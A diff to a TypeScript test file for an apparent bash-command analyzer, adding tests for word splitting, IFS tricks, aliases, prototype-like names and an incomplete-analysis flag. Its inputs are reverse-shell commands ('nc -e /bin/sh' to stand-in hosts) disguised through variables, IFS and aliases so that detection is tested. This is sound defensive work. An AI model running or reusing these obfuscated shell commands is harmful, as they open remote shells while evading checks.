@@ -69,6 +69,18 @@ test('variables assigned earlier resolve at use; quote splitting and escapes are
   assert.equal(unknown.commands[0]!.argv[0], '$TOOL');
 });
 
+test('word splitting, IFS, aliases and prototype-like names are handled like bash would', () => {
+  assert.deepEqual(must(run('c="nc -e /bin/sh h 1"; $c'), 'nc').argv, ['nc', '-e', '/bin/sh', 'h', '1']);
+  assert.deepEqual(must(run('IFS=,; x=nc,-e,sh,h,1; $x'), 'nc').argv, ['nc', '-e', 'sh', 'h', '1']);
+  assert.deepEqual(must(run('echo "$HOME x"'), 'echo').argv, ['echo', '$HOME x'], 'quoted expansions are not split');
+  assert.equal(must(run('alias x=nc; x -e sh h 1'), 'nc').via, 'alias');
+  for (const t of ['constructor -c id', '__proto__ x', 'toString', 'hasOwnProperty -e x']) {
+    const a = run(t);
+    assert.equal(a.commands.length, 1, t);
+    assert.deepEqual(a.parseErrors, [], t);
+  }
+});
+
 test('argv wrappers are unwrapped one hop at a time with the via chain', () => {
   const t = 'nohup setsid timeout -s KILL 60 sudo -u root env -i A=1 nice -n 5 stdbuf -oL nc -e sh h.test 1 &';
   const a = run(t);
@@ -181,6 +193,8 @@ test('hostile input is bounded: depth, size and time limits hold', () => {
   assert.ok(a.parseErrors.some((e) => /depth/.test(e)), a.parseErrors.join());
   const big = run(`echo ${'A'.repeat(200_000)}`);
   assert.ok(big.parseErrors.some((e) => /cut to/.test(e)));
+  assert.ok(big.incomplete.length > 0 && a.incomplete.length > 0, 'limits mark the analysis incomplete');
+  assert.deepEqual(run('ls -la').incomplete, []);
   const many = run(Array.from({ length: 5000 }, (_, i) => `echo ${i}`).join(';'));
   assert.ok(many.commands.length <= analyzer.limits.maxCommands);
   let nested = 'id';
